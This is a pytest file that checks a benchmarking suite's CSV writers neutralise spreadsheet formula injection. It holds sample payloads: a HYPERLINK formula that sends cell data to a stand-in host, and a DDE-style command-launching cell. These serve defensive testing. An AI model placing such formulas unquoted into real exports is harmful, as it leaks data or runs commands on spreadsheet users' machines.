"""CSV cells a spreadsheet cannot run (OWASP's rule), in every CSV the suite writes; numbers as they were."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd

from tests.conftest import run_main
from tests.test_report_html import throughput_run
from trainbench.results.csv_cells import neutral, neutral_frame
from trainbench.results.files import append_csv, write_csv_atomic

HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"open")'


def test_a_text_that_starts_like_a_formula_is_quoted_and_a_number_is_not() -> None:
    for text in (HOSTILE, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\tx", "\rx", "-"):
        assert neutral(text) == "'" + text
    for kept in ("-1.5", "+3e8", "-inf", "NaN", "resnet50", "", "a=b", 7, -2.0, None, True):
        assert neutral(kept) == kept


def test_a_frame_keeps_its_number_columns_and_quotes_its_text_cells_and_names() -> None:
    frame = pd.DataFrame({"source": [HOSTILE, "run1"], "rate": [-1.0, 2.5], "=name": ["@x", None],
                          "whole": pd.array([1, None], dtype="Int64"), "flag": [True, False]})
    out = neutral_frame(frame)
    assert list(out.columns) == ["source", "rate", "'=name", "whole", "flag"]
    assert out["source"].tolist() == ["'" + HOSTILE, "run1"] and out["'=name"].iloc[0] == "'@x"
    assert out["rate"].tolist() == [-1.0, 2.5] and out["whole"].dtype == "Int64" and out["flag"].dtype == bool
    assert frame["source"].iloc[0] == HOSTILE  # the caller's frame is not changed


def test_the_results_writers_quote_text_cells(tmp_path: Path) -> None:
    rows = [{"batch_size": 8, "status": "failed", "error": "-bash: line 1: =1+1: command not found"}]
    write_csv_atomic(tmp_path / "a.csv", ("batch_size", "status", "error"), rows)
    append_csv(tmp_path / "b.csv", ("batch_size", "status", "error"), rows)
    for name in ("a.csv", "b.csv"):
        (row,) = csv.DictReader((tmp_path / name).open())
        assert row == {"batch_size": "8", "status": "failed", "error": "'" + rows[0]["error"]}


def test_ranking_csv_of_a_run_in_a_hostile_folder_name_is_no_formula(tmp_path: Path) -> None:
    throughput_run(tmp_path / "runs" / HOSTILE.replace("/", "_"), batch_sizes=(8,))
    done = run_main("report", str(tmp_path / "runs"), "-o", str(tmp_path / "page.html"))
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader((tmp_path / "ranking.csv").open()))
    assert rows and all(row["source"].startswith("'=HYPERLINK") for row in rows)
    assert all(float(row["samples_per_sec"]) > 0 for row in rows)  # the numbers stay numbers
